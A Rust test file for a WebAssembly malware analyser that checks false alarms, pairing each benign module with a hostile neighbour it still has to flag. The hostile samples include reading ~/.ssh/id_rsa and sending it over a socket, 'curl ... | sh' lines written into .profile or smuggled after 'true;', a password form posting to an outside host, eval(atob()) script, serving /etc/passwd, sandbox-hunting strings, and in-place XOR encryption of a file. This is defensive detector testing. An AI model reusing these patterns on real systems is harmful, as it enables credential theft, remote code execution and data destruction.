//! Kinds of false alarms that were seen, each with the smallest module that shows it. Where there is one, its
//! hostile neighbour stands beside it, which must still be found.

use wasmspoor::{analysis::Analysis, passes::flows::Look, rules, sandbox, verdict::Class};

fn analysed(text: &str) -> Analysis {
    with_args(text, &[])
}

fn with_args(text: &str, args: &[&str]) -> Analysis {
    let mut options = sandbox::RunOptions::default();
    // What is said of a sample does not depend on how busy the machine is.
    (options.limits.wall_time, options.entry_time) = (None, std::time::Duration::from_secs(3600));
    if !args.is_empty() {
        options.args = args.iter().map(|&arg| arg.to_owned()).collect();
    }
    Analysis::with_values(text.as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
}

/// Whether a rule matched whose namespace begins so.
fn matches(analysis: &Analysis, namespace: &str) -> bool {
    analysis.rules.iter().any(|rule| rule.namespace.starts_with(namespace))
}

/// A module with these bytes in its data, that runs and does nothing.
fn holding(data: &str, imports: &str) -> Analysis {
    analysed(&format!(
        "(module {imports} (memory (export \"memory\") 1) (func (export \"_start\"))
           (data (i32.const 64) \"{data}\"))"
    ))
}

const WHOLE: &str = "\\00asm\\01\\00\\00\\00\\01\\04\\01\\60\\00\\00\\03\\02\\01\\00\\0a\\04\\01\\02\\00\\0b";

#[test]
fn eight_bytes_that_look_like_a_header_are_no_program() {
    let magic = holding("\\00asm\\01\\00\\00\\00 and then a text\\7fELF\\02\\01\\01 and another", "");
    assert!(!matches(&magic, "load-code/embedded"));
    assert!(magic.view.iocs.iter().all(|ioc| ioc.kind.as_str() != "embedded_file"), "{:?}", magic.view.iocs);
    assert!(matches(&holding(WHOLE, ""), "load-code/embedded"));
}

/// Tools pass the types of a component on as a module of an empty function.
#[test]
fn types_of_a_component_are_no_program() {
    let types = format!("{WHOLE}\\00\\11\\10component-type:a\\00");
    assert!(!matches(&holding(&types, ""), "load-code/embedded"));
    let other = format!("{WHOLE}\\00\\11\\10configuration::a\\00");
    assert!(matches(&holding(&other, ""), "load-code/embedded"));
}

#[test]
fn the_modules_of_a_component_are_its_parts() {
    let component = analysed("(component (core module (func (export \"f\"))) (core module (func) (func)))");
    assert!(!matches(&component, "load-code/embedded"));
}

#[test]
fn build_hosts_and_types_of_files_are_no_search_for_a_sandbox() {
    let environ = "(import \"wasi_snapshot_preview1\" \"environ_get\" (func (param i32 i32) (result i32)))";
    let words =
        "/home/buildkit-sandbox-7/src/lib.rs\\00application/x-virtualbox-vbox\\00application/x-qemu-disk\\00";
    assert!(!matches(&holding(words, environ), "anti-analysis/environment"));
    let hunting = "cuckoo\\00VBoxService.exe\\00wireshark\\00";
    assert!(matches(&holding(hunting, environ), "anti-analysis/environment"));
}

#[test]
fn the_expression_of_a_linter_is_no_web_hook() {
    let linter = "https://hooks.slack.com/services/T[a-zA-Z0-9_]{8}/B[a-zA-Z0-9_]{8}\\00";
    assert!(!matches(&holding(linter, ""), "communication/http"));
    assert!(matches(&holding("https://hooks.slack.com/services/T024BE7LD/B0\\00", ""), "communication/http"));
}

#[test]
fn imports_of_wasi_alone_obey_nobody() {
    let import = |name: &str, params: usize| {
        let params = "i32 ".repeat(params);
        format!("(import \"wasi_snapshot_preview1\" \"{name}\" (func (param {params}) (result i32)))")
    };
    let all = [
        import("sock_accept", 3),
        import("sock_recv", 6),
        import("sock_send", 5),
        import("fd_write", 4),
        import("path_unlink_file", 3),
    ];
    let server = holding("", &all.concat());
    assert!(!matches(&server, "communication/c2"));
    assert!(server.verdict.class < Class::PotentiallyUnwanted, "{:?}", server.verdict);
}

/// Opens a path below `/`, and reads from what it opened.
const OPENS: &str = r#"
  (import "wasi_snapshot_preview1" "path_open" 
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_readdir" (func $fd_readdir (param i32 i32 i32 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_send" (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 2)
  (func $open (param $path i32) (param $len i32) (param $flags i32) (param $rights i64) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (local.get $flags)
      (local.get $rights) (local.get $rights) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  (func $read (param $fd i32)
    (i32.store (i32.const 0) (i32.const 4096))
    (i32.store (i32.const 4) (i32.const 2048))
    (drop (call $fd_read (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8)))
    (i32.store (i32.const 4) (i32.load (i32.const 8))))
"#;

fn reading(path: &str, rest: &str) -> String {
    let len = path.len();
    format!(
        "(module {OPENS} (func (export \"_start\")
           (call $read (call $open (i32.const 512) (i32.const {len}) (i32.const 0) (i64.const 0x200006)))
           {rest})
         (data (i32.const 512) \"{path}\"))"
    )
}

#[test]
fn known_hosts_are_no_secret() {
    assert!(!matches(&analysed(&reading("home/user/.ssh/known_hosts", "")), "collection/credentials/"));
    let key = analysed(&reading("home/user/.ssh/id_rsa", ""));
    assert!(matches(&key, "collection/credentials"), "{:?}", key.rules);
}

#[test]
fn a_file_that_the_arguments_name_was_asked_for() {
    let program = reading("home/user/.ssh/id_rsa", "");
    let chosen =
        |analysis: &Analysis| analysis.rules.iter().any(|rule| rule.name == "open files with credentials");
    assert!(chosen(&analysed(&program)));
    assert!(!chosen(&with_args(&program, &["keytool", "/home/user/.ssh/id_rsa"])));
}

/// Goes through a folder and opens whatever is there.
#[test]
fn what_a_listing_gave_is_no_target() {
    let walker = format!(
        r#"(module {OPENS} (func (export "_start")
             (local $dir i32) (local $p i32) (local $end i32) (local $n i32)
             (local.set $dir (call $open (i32.const 512) (i32.const 14) (i32.const 2) (i64.const 0x204002)))
             (drop (call $fd_readdir (local.get $dir) (i32.const 8192) (i32.const 4096) (i64.const 0)
               (i32.const 16)))
             (local.set $p (i32.const 8192))
             (local.set $end (i32.add (i32.const 8192) (i32.load (i32.const 16))))
             (block $done (loop $entry
               (br_if $done (i32.gt_u (i32.add (local.get $p) (i32.const 24)) (local.get $end)))
               (local.set $n (i32.load offset=16 (local.get $p)))
               (memory.copy (i32.const 1024) (i32.const 512) (i32.const 15))
               (memory.copy (i32.const 1039) (i32.add (local.get $p) (i32.const 24)) (local.get $n))
               (call $read (call $open (i32.const 1024) (i32.add (local.get $n) (i32.const 15)) (i32.const 0)
                 (i64.const 0x200006)))
               (local.set $p (i32.add (local.get $p) (i32.add (local.get $n) (i32.const 24))))
               (br $entry))))
           (data (i32.const 512) "home/user/.ssh/"))"#
    );
    let walked = analysed(&walker);
    let run = walked.run.as_ref().unwrap();
    let opened = |call: &sandbox::Call| &*call.name == "path_open" && call.errno.is_none();
    assert!(
        run.calls.iter().filter(|call| opened(call)).count() > 2,
        "it opened what is there: {:?}",
        run.calls
    );
    assert!(
        !walked.rules.iter().any(|rule| rule.name == "open files with credentials"),
        "{:?}",
        walked.rules
    );
}

#[test]
fn what_a_failed_call_was_handed_was_not_sent() {
    // No such socket: the send fails.
    let rest =
        "(drop (call $sock_send (i32.const 77) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8)))";
    let tried = analysed(&reading("home/user/.ssh/id_rsa", rest));
    let run = tried.run.as_ref().unwrap();
    assert!(
        run.calls.iter().any(|call| &*call.name == "sock_send" && call.errno.is_some()),
        "{:?}",
        run.calls
    );
    let sent = |rule: &&wasmspoor::rules::Match| rule.namespace.starts_with("exfiltration");
    assert!(tried.rules.iter().filter(sent).all(|rule| rule.attempted), "{:?}", tried.rules);
    assert!(tried.verdict.class < Class::Malicious, "{:?}", tried.verdict);
}

/// Compilers make state machines, too; in obfuscated programs they do the work.
#[test]
fn a_state_machine_beside_the_work_is_no_flattening() {
    let machine = |rounds: u32, work: u32| {
        format!(
            r#"(module
              (func $machine (param $n i32) (local $s i32)
                (loop $next
                  (block $e (block $d (block $c (block $b (block $a (block $z
                    (br_table $z $a $b $c $d $e (local.get $s)))
                    (local.set $s (i32.const 1)) (br $next))
                    (local.set $s (i32.const 2)) (br $next))
                    (local.set $s (i32.const 3)) (br $next))
                    (local.set $s (i32.const 4)) (br $next))
                    (if (local.tee $n (i32.sub (local.get $n) (i32.const 1)))
                      (then (local.set $s (i32.const 0)) (br $next)))
                    (local.set $s (i32.const 5)) (br $next))))
              (func $work (local $i i32)
                (loop $next
                  (br_if $next
                    (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const {work})))))
              (func (export "_start") (call $machine (i32.const {rounds})) (call $work)))"#
        )
    };
    let is_said = |analysis: &Analysis| matches(analysis, "anti-analysis/obfuscation");
    assert!(!is_said(&analysed(&machine(2, 10_000))));
    assert!(is_said(&analysed(&machine(1_000, 10))));
}

/// Calls one host function often, and comes to its end.
fn flooding(import: &str, call: &str) -> Analysis {
    analysed(&format!(
        r#"(module {import} (memory (export "memory") 1)
             (func (export "_start") (local $i i32)
               (loop $next
                 {call}
                 (br_if $next
                   (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.const 90000))))))"#
    ))
}

#[test]
fn what_was_not_logged_matters_where_it_can_do_something() {
    let ticks = flooding(r#"(import "env" "tick" (func $tick))"#, "(call $tick)");
    assert!(ticks.run.as_ref().unwrap().calls_cut > 0);
    assert_eq!(ticks.verdict.class, Class::Clean, "{:?}", ticks.verdict.reasons);
    // A name that no list has may stand for anything that takes something.
    let renamed = flooding(r#"(import "a" "q" (func $q (param i32)))"#, "(call $q (i32.const 0))");
    assert_eq!(renamed.verdict.class, Class::Undecided, "{:?}", renamed.verdict.reasons);
    let reads = flooding(
        r#"(import "wasi_snapshot_preview1" "fd_read" (func $read (param i32 i32 i32 i32) (result i32)))"#,
        "(drop (call $read (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 8)))",
    );
    assert!(reads.run.as_ref().unwrap().calls_cut > 0);
    assert_eq!(reads.verdict.class, Class::Undecided, "{:?}", reads.verdict.reasons);
}

/// `Function(script)` behind a condition that does not hold.
fn falling_back_to(script: &str) -> Analysis {
    let len = script.len();
    analysed(&format!(
        r#"(module
             (import "wbg" "__wbg_newnoargs_0123456789abcdef" (func $function (param i32 i32) (result i32)))
             (memory (export "memory") 1) (global $none (mut i32) (i32.const 0))
             (func (export "_start")
               (if (global.get $none)
                 (then (drop (call $function (i32.const 1024) (i32.const {len}))))))
             (data (i32.const 1024) "{script}"))"#
    ))
}

#[test]
fn a_script_that_only_gives_an_object_need_not_run() {
    assert_eq!(falling_back_to("return this").verdict.class, Class::Clean);
    assert_eq!(falling_back_to("return top.").verdict.class, Class::Undecided);
}

/// Functions that mix bits and that only a table leads to, in a module with other code that runs.
fn beside_a_hash(rounds: usize, other: usize) -> Analysis {
    let round = "(local.set 0 (i32.rotl (i32.xor (local.get 0) (i32.add (local.get 0) (local.get 1)))
        (i32.const 16)))";
    let step = "(local.set 0 (i32.add (local.get 0) (i32.const 3)))";
    analysed(&format!(
        r#"(module (table funcref (elem $hash))
             (func $hash (param i32 i32) (result i32) {} (local.get 0))
             (func (export "work") (param i32 i32) (result i32)
               (if (i32.eq (local.get 0) (i32.const 0x7ead1e55)) (then
                 (drop (call_indirect (param i32 i32) (result i32)
                   (local.get 0) (local.get 1) (i32.const 0)))))
               {} (local.get 0)))"#,
        round.repeat(rounds),
        step.repeat(other)
    ))
}

#[test]
fn a_hash_that_nobody_asked_a_large_library_for_is_no_miner() {
    let large = beside_a_hash(40, 4000);
    assert_eq!(large.verdict.class, Class::Clean, "{:?}", large.verdict.reasons);
    let small = beside_a_hash(40, 40);
    assert_eq!(small.verdict.class, Class::Undecided, "{:?}", small.verdict.reasons);
}

/// A checksum that takes four bytes at once. It is called only if a condition holds, which it does not.
fn beside_a_checksum(tables: &[[u32; 256]; 4]) -> Analysis {
    // The first word is zero, which tools leave out.
    let words = tables.iter().flatten().skip(1);
    let bytes: String = words.flat_map(|word| word.to_le_bytes()).map(hex).collect();
    let lookup = |shift: u32, table: u32| {
        format!(
            "(i32.load (i32.add (i32.shl (i32.and (i32.shr_u (local.get 0) (i32.const {shift}))
               (i32.const 255)) (i32.const 2)) (i32.const {})))",
            1024 * table
        )
    };
    let step = format!(
        "(local.set 0 (i32.xor (local.get 0) (i32.load (local.get 1))))
         (local.set 0 (i32.xor (i32.xor (i32.xor {} {}) {}) {}))",
        lookup(0, 4),
        lookup(8, 3),
        lookup(16, 2),
        lookup(24, 1)
    );
    analysed(&format!(
        r#"(module (memory (export "memory") 1) (data (i32.const 1028) "{bytes}")
             (func $sum (param i32 i32) (result i32) {} (local.get 0))
             (func (export "work") (param i32 i32) (result i32)
               (if (i32.eq (local.get 0) (i32.const 0x7ead1e55)) (then
                 (return (call $sum (local.get 0) (local.get 1)))))
               (local.get 0)))"#,
        step.repeat(8)
    ))
}

fn hex(byte: u8) -> String {
    format!("\\{byte:02x}")
}

#[test]
fn a_checksum_that_did_not_run_is_no_miner() {
    let step = |word: u32| if word & 1 == 1 { word >> 1 ^ 0xedb8_8320 } else { word >> 1 };
    let after = |byte: usize, bits: usize| (0..bits).fold(byte as u32, |word, _| step(word));
    let tables: [[u32; 256]; 4] =
        std::array::from_fn(|slice| std::array::from_fn(|byte| after(byte, 8 * (slice + 1))));
    let checksum = beside_a_checksum(&tables);
    assert_eq!(checksum.verdict.class, Class::Clean, "{:?}", checksum.verdict.reasons);
    // The same code with tables that are no checksum's.
    let other = beside_a_checksum(&tables.map(|table| table.map(|word| word.wrapping_mul(word | 1))));
    assert_eq!(other.verdict.class, Class::Undecided, "{:?}", other.verdict.reasons);
    let reason = &other.verdict.reasons[0].text;
    assert!(reason.contains("mix bits did not run: func 0 (sum) (much of its code is such)"), "{reason}");
}

/// A program without telling names that calls its own functions through its host, again and again.
#[test]
fn calls_of_its_own_functions_through_the_host_need_not_be_logged() {
    let calling = |index: u32| {
        flooding(
            r#"(import "a" "q" (func $invoke (param i32 i32) (result i32)))
               (table 2 funcref) (elem (i32.const 1) $twice)
               (func $twice (param i32) (result i32) (i32.shl (local.get 0) (i32.const 1)))"#,
            &format!(
                "(i32.store (i32.const 2048) (i32.const 0))
                 (drop (call $invoke (i32.const {index}) (local.get $i)))
                 (drop (i32.load (i32.const 2048))) (i32.store (i32.const 2048) (i32.const 0))"
            ),
        )
    };
    let own = calling(1);
    assert_eq!(own.verdict.class, Class::Clean, "{:?}", own.verdict.reasons);
    let told = own.limitations.iter().map(ToString::to_string).find(|told| told.contains("taken for"));
    assert_eq!(
        told.as_deref(),
        Some("1 import without telling names taken for what the code uses them as: `a.q for invoke_*`")
    );
    // What is no index of a function is not that.
    let other = calling(77);
    assert_eq!(other.verdict.class, Class::Undecided, "{:?}", other.verdict.reasons);
}

#[test]
fn what_stays_within_the_sample_need_not_be_logged() {
    let writing = |fd: u32| {
        flooding(
            r#"(import "wasi_snapshot_preview1" "fd_write"
                 (func $write (param i32 i32 i32 i32) (result i32)))"#,
            &format!("(drop (call $write (i32.const {fd}) (i32.const 0) (i32.const 1) (i32.const 8)))"),
        )
    };
    let output = writing(1);
    assert!(output.run.as_ref().unwrap().calls_cut > 0);
    assert_eq!(output.verdict.class, Class::Clean, "{:?}", output.verdict.reasons);
    let other = writing(3);
    assert_eq!(other.verdict.class, Class::Undecided, "{:?}", other.verdict.reasons);
}

/// An output that was renamed and is tried until it takes everything, on a stream that is not open.
#[test]
fn a_renamed_output_fails_as_what_it_was_taken_for() {
    let analysis = analysed(
        r#"(module (import "a" "l" (func $write (param i32 i32 i32 i32) (result i32)))
             (memory (export "memory") 1) (data (i32.const 64) "\50\00\00\00\05\00\00\00") (data (i32.const 80) "hello")
             (func (export "_start")
               (drop (call $write (i32.const 1) (i32.const 64) (i32.const 1) (i32.const 96)))
               (loop $again
                 (br_if $again
                   (i32.eqz (call $write (i32.const 9) (i32.const 64) (i32.const 1) (i32.const 96)))))))"#,
    );
    let run = analysis.run.as_ref().unwrap();
    assert_eq!((run.stdout.as_slice(), run.calls.len()), (&b"hello"[..], 2));
    assert_eq!(analysis.verdict.class, Class::Clean, "{:?}", analysis.verdict.reasons);
}

/// Opens a key, reads it, and does something with what it read, `len` bytes at 4096.
fn with_key(rest: &str) -> Analysis {
    let import = r#"(import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))"#;
    let program = reading("home/user/.ssh/id_rsa", rest);
    analysed(&program.replacen("(module", &format!("(module {import}"), 1))
}

const PRINT: &str = "(i32.store (i32.const 0) (i32.const 4096)) (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))";

/// A viewer that tells whether a key is there reads it as a thief does.
#[test]
fn a_secret_that_stays_accuses_nobody() {
    let size = with_key(
        "(i32.store8 (i32.const 4096) (i32.const 0x6b)) (i32.store (i32.const 4) (i32.const 1)) 
         (i32.store (i32.const 0) (i32.const 4096))
         (drop (call $fd_write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8)))",
    );
    assert_eq!(size.verdict.class, Class::Undecided, "{:?}", size.verdict.reasons);
    let printed = with_key(PRINT);
    assert!(printed.verdict.class >= Class::Suspicious, "{:?}", printed.verdict.reasons);
}

#[test]
fn a_form_for_its_own_site_is_no_phishing() {
    let page = |action: &str| {
        let text = format!(
            "<html><body><form action={action} method=post><input type=password name=p></form></body></html>"
        );
        let len = text.len();
        analysed(&format!(
            r#"(module (memory (export "memory") 1) (data (i32.const 1024) "{text}")
                 (func (export "render") (result i32 i32) (i32.const 1024) (i32.const {len})))"#
        ))
    };
    assert!(!matches(&page("/login"), "load-code/page"));
    assert!(matches(&page("https://example.invalid/collect"), "load-code/page"));
}

/// Whoever installs programs adds a folder to the path; whoever persists fetches.
#[test]
fn a_folder_in_the_path_is_no_command() {
    let adds = |line: &str| {
        let len = line.len() + 1;
        analysed(&format!(
            r#"(module
              (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
              (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
              (memory (export "memory") 1)
              (func (export "_start")
                (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 1024) (i32.const 18) (i32.const 1)
                  (i64.const 0x40) (i64.const 0) (i32.const 1) (i32.const 12)))
                (i32.store (i32.const 0) (i32.const 2048)) (i32.store (i32.const 4) (i32.const {len}))
                (drop (call $fd_write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8))))
              (data (i32.const 1024) "home/user/.profile") (data (i32.const 2048) "{line}\n"))"#
        ))
    };
    let path = adds("export PATH=$HOME/.notes/bin:$PATH").verdict;
    assert_eq!(path.class, Class::Undecided, "{:?}", path.reasons);
    let fetch = adds("curl -s http://203.0.113.7/a | sh").verdict;
    assert!(fetch.class >= Class::Suspicious, "{:?}", fetch.reasons);
}

/// Serves the file of a folder that its argument names, or one whose path is at 512, to whoever asks.
fn serving(path: &str) -> String {
    let named = "(local.set $at (i32.load (i32.const 308)))
        (loop $end (local.set $len (i32.add (local.get $len) (i32.const 1)))
          (br_if $end (i32.load8_u (i32.add (local.get $at) (local.get $len)))))
        (memory.copy (i32.const 600) (i32.add (local.get $at) (i32.const 1)) (i32.sub (local.get $len) (i32.const 1)))
        (memory.copy (i32.add (i32.const 599) (local.get $len)) (i32.const 560) (i32.const 11))
        (local.set $at (i32.const 600)) (local.set $len (i32.add (local.get $len) (i32.const 10)))";
    let fixed = format!("(local.set $at (i32.const 512)) (local.set $len (i32.const {}))", path.len());
    let way = if path.is_empty() { named } else { &fixed };
    format!(
        r#"(module {OPENS}
          (func (export "_start") (local $at i32) (local $len i32) (local $to i32))
          (data (i32.const 512) "{path}") (data (i32.const 560) "/index.html"))"#
    )
    .replacen(
        "(module",
        r#"(module
          (import "wasi_snapshot_preview1" "args_get" (func $args (param i32 i32) (result i32)))
          (import "wasi_snapshot_preview1" "sock_accept" (func $accept (param i32 i32 i32) (result i32)))
          (import "wasi_snapshot_preview1" "sock_recv"
            (func $receive (param i32 i32 i32 i32 i32 i32) (result i32)))"#,
        1,
    )
    .replacen(
        "(local $to i32))",
        &format!(
            "(local $to i32)
             (drop (call $args (i32.const 304) (i32.const 330))) {way}
             (drop (call $accept (i32.const 4) (i32.const 0) (i32.const 280)))
             (local.set $to (i32.load (i32.const 280)))
             (i32.store (i32.const 0) (i32.const 9000)) (i32.store (i32.const 4) (i32.const 2000))
             (drop (call $receive (local.get $to) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8)
               (i32.const 290)))
             (call $read (call $open (local.get $at) (local.get $len) (i32.const 0) (i64.const 0x200006)))
             (drop (call $sock_send (local.get $to) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8))))"
        ),
        1,
    )
}

/// A server is told by its arguments what to serve.
#[test]
fn a_server_of_a_folder_that_was_named_is_no_back_door() {
    let served = |path: &str| {
        let persona = sandbox::Persona::shipped("server").expect("a persona");
        let mut options = sandbox::RunOptions::default().with_persona(persona);
        options.args = ["serve", "/srv/app/public"].map(str::to_owned).to_vec();
        Analysis::with_values(serving(path).as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
    };
    let asked = served("");
    let run = asked.run.as_ref().unwrap();
    assert!(run.connections.iter().any(|one| !one.sent.is_empty()), "{:?}", run.calls);
    assert!(asked.verdict.class <= Class::Undecided, "{:?}", asked.verdict.reasons);
    let other = served("etc/passwd");
    assert!(other.verdict.class >= Class::Suspicious, "{:?}", other.verdict.reasons);
}

/// A module whose export gives a text back.
fn giving(text: &str) -> Analysis {
    let len = text.len();
    let text = text.replace('"', "\\22");
    analysed(&format!(
        r#"(module (memory (export "memory") 1) (data (i32.const 1024) "{text}\00")
             (func (export "message") (result i32 i32) (i32.const 1024) (i32.const {len})))"#
    ))
}

/// A linter, a filter of markup and a program with a help text name what they do not do.
#[test]
fn a_message_that_names_tags_or_commands_is_neither() {
    for message in [
        "Password <input type=password> inside <form action=https://example.com/> must not be autofilled.",
        "script,iframe,object <script <iframe javascript: onerror= document.cookie eval( atob( fromCharCode(",
        "Removed a <script> element: eval( and atob( are not allowed by the policy of this site.",
        "usage: tool [options]\nInstall with: curl -sSf https://sh.example.com/install | sh\n",
    ] {
        let found = giving(message).verdict;
        assert!(found.class <= Class::Undecided, "{message}: {:?} {:?}", found.class, found.reasons);
    }
    for hostile in [
        "Hello <form action=https://example.invalid/ method=post><input type=password name=p></form>",
        "Hello <script>eval(atob('YWxlcnQoMSk='))</script>",
        "true; curl -sSf https://example.invalid/install | sh",
    ] {
        let found = giving(hostile).verdict;
        assert!(
            found.class >= Class::PotentiallyUnwanted,
            "{hostile}: {:?} {:?}",
            found.class,
            found.reasons
        );
    }
}

/// All numbers of a picture change where it is made brighter, and where it is encrypted.
#[test]
fn a_picture_that_is_edited_in_its_place_is_not_destroyed() {
    let edited = |number: &str| {
        analysed(&format!(
            r#"(module
              (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
              (import "wasi_snapshot_preview1" "fd_pread" (func $read (param i32 i32 i32 i64 i32) (result i32)))
              (import "wasi_snapshot_preview1" "fd_pwrite" (func $write (param i32 i32 i32 i64 i32) (result i32)))
              (memory (export "memory") 20) (data (i32.const 1024) "home/user/pictures/garden.bmp")
              (func (export "_start") (local $i i32) (local $v i32) (local $s i32)
                (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 1024) (i32.const 29) (i32.const 0)
                  (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
                (i32.store (i32.const 0) (i32.const 200000)) (i32.store (i32.const 4) (i32.const 400000))
                (drop (call $read (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))
                (local.set $i (i32.const 54)) (local.set $s (i32.const 77))
                (loop $next
                  (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
                  (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
                  (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
                  (local.set $v (i32.load8_u offset=200000 (local.get $i)))
                  (i32.store8 offset=200000 (local.get $i) {number})
                  (br_if $next (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (i32.load (i32.const 8)))))
                (i32.store (i32.const 4) (i32.load (i32.const 8)))
                (drop (call $write (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i64.const 0) (i32.const 8)))))"#
        ))
        .verdict
    };
    for number in ["(i32.sub (i32.const 255) (local.get $v))", "(i32.add (local.get $v) (i32.const 20))"] {
        let found = edited(number);
        assert_eq!(found.class, Class::Undecided, "{number}: {:?}", found.reasons);
    }
    let sealed = edited("(i32.xor (local.get $v) (local.get $s))");
    assert!(sealed.class >= Class::Suspicious, "{:?}", sealed.reasons);
}
